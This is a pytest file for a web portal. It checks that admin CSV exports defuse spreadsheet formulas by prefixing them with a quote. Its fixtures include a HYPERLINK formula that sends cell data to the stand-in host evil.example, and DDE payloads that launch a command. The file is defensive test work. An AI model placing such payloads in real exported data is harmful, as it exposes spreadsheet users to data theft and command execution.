"""Admin CSV exports never hand a spreadsheet a formula (#14 item 8)."""

import csv
import io
from decimal import Decimal

import pytest

from portal.core.spreadsheet import neutralise_formula
from tests.factories.organizations import OrganizationFactory, UserFactory
from tests.factories.projects import CommunityNeedFactory, make_call
from tests.factories.review import ApplicationFactory

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"点此")'
COMMAND = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|x", "'+cmd|x"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("彩虹桥", "彩虹桥"),
        ("a=1", "a=1"),
        ("", ""),
        (-5, -5),
        (Decimal("-1.50"), Decimal("-1.50")),
        (None, None),
    ],
)
def test_neutralise_formula_prefixes_text_only(value, expected):
    assert neutralise_formula(value) == expected


@pytest.fixture
def admin_client(client, db):
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    return client


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def test_organization_export_neutralises_formulas(admin_client):
    OrganizationFactory(name=FORMULA, contact_name=COMMAND)

    rows = _rows(admin_client.get("/admin/organizations_admin/?export=csv"))

    assert rows[1][0] == "'" + FORMULA
    assert "'" + COMMAND in rows[1]
    assert FORMULA not in rows[1]


def test_need_export_neutralises_formulas(admin_client):
    CommunityNeedFactory(title="@SUM(1+1)*cmd|' /C calc'!A0")

    rows = _rows(admin_client.get("/admin/snippets/projects/communityneed/?export=csv"))

    assert rows[1][1] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_application_export_neutralises_formulas(admin_client, site_pages):
    ApplicationFactory(
        call=make_call(), title="-2+3+cmd|' /C calc'!A0", organization__name="\t=1+1"
    )

    rows = _rows(admin_client.get("/admin/snippets/projects/application/?export=csv"))

    assert rows[1][1:3] == ["'-2+3+cmd|' /C calc'!A0", "'\t=1+1"]
    assert rows[1][5] == "10000000"
